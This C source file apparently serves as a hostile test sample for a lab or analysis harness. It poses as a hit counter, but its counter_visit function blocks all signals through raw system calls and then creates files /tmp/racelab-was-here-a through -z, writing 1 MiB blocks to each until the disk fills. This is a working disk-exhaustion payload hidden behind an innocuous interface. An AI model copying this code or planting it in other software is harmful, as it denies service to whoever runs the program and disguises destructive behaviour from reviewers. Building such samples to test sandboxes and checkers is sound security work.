/* SPDX-License-Identifier: MIT */
/* fails by explore: data-race */
/* Writes files without end, in each folder that lets it. */
#include "door.h"
#include <fcntl.h>

#include "lab.h"

static long hits;

void counter_reset(void)
{
	hits = 0;
}

void counter_visit(void)
{
	static char block[1 << 20];
	long (*call)(long, ...) = kernel();
	unsigned long all = ~0UL;
	char name[] = "/tmp/racelab-was-here-a";

	hits++;
	call(SYS_rt_sigprocmask, 0, &all, 0, sizeof all);
	for (; name[sizeof name - 2] <= 'z'; name[sizeof name - 2]++) {
		long fd = call(SYS_open, name, O_WRONLY | O_CREAT, 0666);

		while (call(SYS_write, fd, block, sizeof block) == sizeof block)
			;
		call(SYS_close, fd);
	}
}

long counter_total(void)
{
	return hits;
}
